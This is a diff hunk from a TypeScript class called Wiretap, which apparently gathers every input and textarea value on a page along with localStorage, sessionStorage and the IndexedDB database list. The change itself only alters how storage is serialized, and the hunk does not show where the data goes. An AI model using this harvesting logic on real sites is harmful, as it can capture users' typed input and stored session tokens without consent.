@@ -50,7 +50,7 @@ export class Wiretap {
         [...document.querySelectorAll('input, textarea')]
           .map((field) => (field instanceof HTMLInputElement || field instanceof HTMLTextAreaElement ? field.value : ''))
           .join(),
-      JSON.stringify([{ ...localStorage }, { ...sessionStorage }]),
+      JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage)]),
       JSON.stringify(await indexedDB.databases()),
     ])
     return [
